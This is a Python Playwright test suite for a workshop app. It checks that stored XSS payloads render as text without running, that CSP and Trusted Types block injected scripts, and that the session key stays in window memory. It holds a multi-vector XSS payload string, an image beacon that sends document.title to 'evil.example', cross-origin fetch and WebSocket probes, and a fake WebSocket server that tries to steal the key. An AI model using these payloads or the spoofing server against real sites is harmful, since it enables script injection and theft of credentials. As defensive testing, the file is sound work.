"""What hostile words and hostile pages can do in a real browser: nothing."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from attack_client import HERE, Command, Visitor, command_in, new_id
from playwright.sync_api import Browser, BrowserContext, Page, expect
from running import BROWSERS, chromium, launch_arguments

from dialogkort.i18n import catalogue

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(chromium() is None, reason=f"no Chromium on the PATH (looked for {BROWSERS})"),
]
expect.set_options(timeout=30_000)
_RUNS = (
    '<img src=x onerror="window.hacked=1;alert(1)">'
    "</script><script>window.hacked=1</script>"
    "<svg onload=window.hacked=1>"
    '"\' autofocus onfocus=window.hacked=1 x="'
    "javascript:window.hacked=1//{{7*7}}${7*7}"
)


@pytest.fixture(scope="session")
def browser_type_launch_args() -> dict:
    return launch_arguments()


@pytest.fixture(scope="module")
def hostile(command: Command) -> str:
    """A session in which every field that a screen shows holds a script."""
    with command.visit() as window:
        named = dict.fromkeys(("workshop", "organisation", "unit", "group", "note_taker"), _RUNS[:190])
        session = window.ask({"type": "start", "details": named})["session"]
        card = window.slices["table"]["face_down"][0]
        for what in ("turned", "discussed"):
            event = {"what": what, "id": new_id(), "session": session, "card": card}
            assert not window.ask({"type": "event", "event": event}).get("refused")
        for fields in (
            {},
            {"card": card, "opening_question": None},
            {"kind": "next step", "owner": _RUNS[:190]},
        ):
            assert not window.note(session, _RUNS + " ring 22 33 44 55", **fields).get("refused"), fields
    with command.visit("coding") as window:
        for length in (100, 90):
            _code_everything(window, _RUNS[:length])
    return session


def _code_everything(window: Visitor, coder: str) -> None:
    window.ask({"type": "hello", "session": None})
    lobby = window.slices["lobby"]
    signing = {"type": "sign_in", "coder": coder, "session": lobby["project"], "name": _RUNS[:100]}
    project = window.ask(signing)["session"]
    code = new_id()
    about = {"session": project, "coder": coder}
    define = {
        "what": "code defined",
        "id": code,
        "code": code,
        "name": coder[:50] + str(len(coder)),
        "definition": _RUNS,
        **about,
    }
    replies = [window.ask({"type": "event", "event": define})]
    for note in window.slices["corpus"]["notes"]:
        where = {"note": note["id"], "noted_in": note["in"], **about}
        for event in (
            {"what": "coded", "code": code, "applies": True},
            {"what": "memo written", "text": _RUNS},
        ):
            replies.append(window.ask({"type": "event", "event": {**event, "id": new_id(), **where}}))
    assert not any(reply.get("refused") for reply in replies), replies


@pytest.fixture
def watched(page: Page) -> Iterator[Page]:
    """A page in which nothing may run that is not ours, and that asks nobody else."""
    page.set_default_timeout(30_000)
    faults: list[str] = []
    page.on("dialog", lambda dialog: (faults.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("pageerror", lambda fault: faults.append(f"error {fault}"))
    page.on("request", lambda request: faults.append(request.url) if request.url.endswith("/x") else None)
    page.on(
        "console",
        lambda message: faults.append(message.text) if "Content Security Policy" in message.text else None,
    )
    yield page
    assert page.evaluate("window.hacked") is None
    assert not faults


def test_words_on_the_table_are_shown_and_never_run(command: Command, hostile: str, watched: Page):
    watched.goto(command.running.url)
    watched.locator(".dk-start-form").wait_for()
    expect(watched.locator("main")).to_contain_text("onerror=")
    watched.goto(command.running.url.replace("#", f"?session={hostile}#"))
    expect(watched.locator(".dk-card").first).to_be_visible()
    watched.locator(".dk-card[data-state=discussed]").first.click()
    fields = watched.locator("textarea")
    assert any("onerror=" in field.input_value() for field in fields.all())
    assert not watched.locator("img[src=x], svg[onload]").count()


def test_words_in_the_overview_are_shown_and_never_run(command: Command, hostile: str, watched: Page):
    watched.goto(command.running.url.replace("/#", "/overblik#"))
    watched.get_by_role("checkbox").check()  # also what few are behind
    expect(watched.locator("main")).to_contain_text("onerror=")
    expect(watched.get_by_role("img")).to_be_visible()
    assert not watched.locator("img[src=x], svg[onload]").count()


def test_words_that_are_coded_are_shown_and_never_run(command: Command, hostile: str, watched: Page):
    watched.goto(command.running.url.replace("/#", "/kodning#"))
    watched.get_by_role("textbox").first.fill("<b>Anna</b>")
    watched.keyboard.press("Enter")
    expect(watched.locator("main")).to_contain_text("onerror=")
    assert not watched.locator("img[src=x], svg[onload]").count()


def test_the_policy_stops_a_script_that_got_in_nevertheless(command: Command, page: Page):
    page.goto(command.running.url)
    page.locator(".dk-start-form").wait_for()
    page.on("dialog", lambda dialog: dialog.dismiss())
    stopped = page.evaluate(
        """async () => {
            const stopped = [];
            document.addEventListener("securitypolicyviolation", (e) => stopped.push(e.effectiveDirective));
            const script = document.createElement("script");
            try { script.textContent = "window.hacked = 1"; document.body.append(script); }
            catch { stopped.push("trusted-types"); }
            try { document.body.innerHTML += "<img src=x onerror='window.hacked=1'>"; }
            catch { stopped.push("trusted-types"); }
            try { setTimeout("window.hacked = 1", 0); } catch { stopped.push("trusted-types"); }
            try { document.body.setAttribute("onclick", "window.hacked = 1"); document.body.click(); }
            catch { stopped.push("trusted-types"); }
            const frame = document.createElement("iframe"); frame.src = "data:text/html,x";
            document.body.append(frame);
            const image = new Image(); image.src = "http://evil.example/?" + document.title;
            await fetch("http://127.0.0.1:1/").catch(() => stopped.push("fetch"));
            try { new WebSocket("ws://127.0.0.1:1/"); } catch { stopped.push("socket"); }
            const expected = ["frame-src", "img-src", "fetch"], end = performance.now() + 20_000;
            while (!expected.every((one) => stopped.includes(one)) && performance.now() < end)
                await new Promise((done) => setTimeout(done, 20));
            await new Promise((done) => setTimeout(done, 200));
            return stopped;
        }"""
    )
    assert {"trusted-types", "fetch", "frame-src", "img-src"} <= set(stopped)
    assert page.evaluate("window.hacked") is None


# --- the key ----------------------------------------------------------------------------------------------


def test_the_key_is_in_the_windows_memory_and_nowhere_else(command: Command, page: Page):
    requests = []
    page.on("request", lambda request: requests.append((request.url, str(request.headers))))
    page.goto(command.running.url)
    page.locator(".dk-start-form").wait_for()
    assert page.evaluate("sessionStorage.getItem('dialogkort:key')") == command.key
    everywhere = page.evaluate(
        """() => JSON.stringify([location.href, document.referrer, document.cookie, document.title,
            {...localStorage}, history.state, document.documentElement.outerHTML])"""
    )
    assert command.key not in everywhere
    assert not any(command.key in words for _, words in requests)
    assert not any(command.key in url.partition("#")[0] for url, _ in requests)
    assert page.context.cookies() == []
    page.goto("about:blank")
    page.go_back()
    page.locator(".dk-start-form").wait_for()
    assert command.key not in page.url


def test_a_new_window_without_the_key_is_told_what_is_missing(command: Command, context: BrowserContext):
    with command.visit() as window:
        window.start(workshop="kun med nøgle")
    first, second = context.new_page(), context.new_page()
    first.goto(command.running.url)
    first.locator(".dk-start-form").wait_for()
    second.goto(command.running.url.partition("#")[0])
    expect(second.locator("main")).to_contain_text(catalogue("da")["app"]["refused"]["what"])
    assert "kun med nøgle" not in second.content()
    assert str(command.folder) not in second.content()


# --- another page -----------------------------------------------------------------------------------------


class _Evil(BaseHTTPRequestHandler):
    """A page of somebody else's, on another port of this machine."""

    page = b""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.page)

    def log_message(self, *_: object) -> None:
        pass


@contextmanager
def _evil(page: str, port: int = 0) -> Iterator[str]:
    handler = type("Evil", (_Evil,), {"page": page.encode()})
    with ThreadingHTTPServer((HERE, port), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://{HERE}:{server.server_address[1]}"
        server.shutdown()


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_another_page_of_this_machine_gets_nothing(command: Command, browser: Browser, name: str):
    with _evil("<h1>Ond</h1>") as url:
        page = browser.new_page()
        page.goto(url.replace("127.0.0.1", name))
        got = page.evaluate(
            """async (port) => {
                const got = [];
                for (const host of ["127.0.0.1", "localhost"]) {
                    const base = `http://${host}:${port}`;
                    for (const path of ["/", "/alive", "/overblik", "/no-such-page"]) {
                        await fetch(base + path).then(() => got.push(path), () => 0);
                        await fetch(base + path, { mode: "no-cors" }).then(
                            (answer) => answer.type === "opaque" || got.push(path), () => 0);
                    }
                    await new Promise((done) => {
                        const socket = new WebSocket(`ws://${host}:${port}/socket/workshop`);
                        socket.onopen = () => { got.push("socket"); done(); };
                        socket.onmessage = ({ data }) => got.push(data);
                        socket.onerror = done;
                    });
                    const script = document.createElement("script");
                    script.src = base + "/assets/x/workshop.js";
                    document.body.append(script);
                }
                return got;
            }""",
            command.port,
        )
        page.close()
    assert got == []


def test_another_page_cannot_frame_ours(command: Command, browser: Browser):
    with _evil(f"<iframe src='http://{HERE}:{command.port}/'></iframe>") as url:
        page = browser.new_page()
        page.goto(url)
        page.wait_for_load_state("networkidle")
        framed = page.frames[-1]
        assert not framed.locator("#dialogkort-boot").count()
        page.close()


def test_a_page_that_opens_ours_has_no_hold_of_it(command: Command, browser: Browser):
    with _evil("<h1>Ond</h1>") as url:
        page = browser.new_page()
        page.goto(url)
        with page.context.expect_page() as opened:
            page.evaluate(f"window.ours = window.open('http://{HERE}:{command.port}/#key=forkert')")
        ours = opened.value
        ours.wait_for_load_state()
        expect(ours.locator("main")).not_to_be_empty()
        assert ours.evaluate("window.opener") is None
        assert page.evaluate("window.ours.closed") is True  # severed: Cross-Origin-Opener-Policy
        page.context.close()


# --- who takes the port -----------------------------------------------------------------------------------

_THIEF = """
import asyncio, hashlib, json, sys
from tornado.web import Application
from tornado.websocket import WebSocketHandler
class Thief(WebSocketHandler):
    def check_origin(self, origin): return True
    def open(self):
        print("came", flush=True)
        lie = {"type": "state", "whole": True, "set": {"lobby": {"sessions": [], "folder": "tyvens mappe",
            "notices": "tyvens ord", "unreadable": "", "proposal": {}}, "table": {}, "notes": {}},
            "reply": {"to": None, "opened": True, "session": None, "now": 0}}
        self.write_message(json.dumps(lie))
        self.write_message(json.dumps({"type": "challenge", "nonce": "n" * 32}))
    def on_message(self, said):
        print("heard", said, flush=True)
        self.write_message(json.dumps({"type": "welcome", "proof": "0" * 64, "version": "x", "access": "y"}))
        self.write_message(json.dumps({"type": "state", "set": {"lobby": {"notices": "tyvens ord"}}}))
async def main(port):
    Application([("/socket/.*", Thief)]).listen(port, "127.0.0.1")
    print("http://ready/", flush=True)
    await asyncio.Event().wait()
asyncio.run(main(int(sys.argv[1])))
"""


def test_who_takes_the_port_hears_neither_key_nor_note_and_is_not_believed(tmp_path: Path, browser: Browser):
    from running import free_port, run_module, until_in_its_time

    with command_in(tmp_path / "noter", "--port", str(free_port())) as command:
        port, key = command.port, command.key
        page = browser.new_page()
        page.clock.install()
        page.set_default_timeout(30_000)
        page.goto(command.running.url)
        page.locator(".dk-start-form").wait_for()
    thief = contextmanager(run_module)
    with thief(["-c", _THIEF, str(port)]) as running:
        until_in_its_time(page, lambda: "".join(running.printed).count("heard") >= 2)
        assert key not in "".join(running.printed)
        assert "hello" not in "".join(running.printed)
        expect(page.locator("body")).not_to_contain_text("tyvens")
        lost = page.locator("[data-state=locked], [data-state=lost], .dk-lost, [role=alert]")
        until_in_its_time(page, lambda: lost.count() > 0)
    page.close()
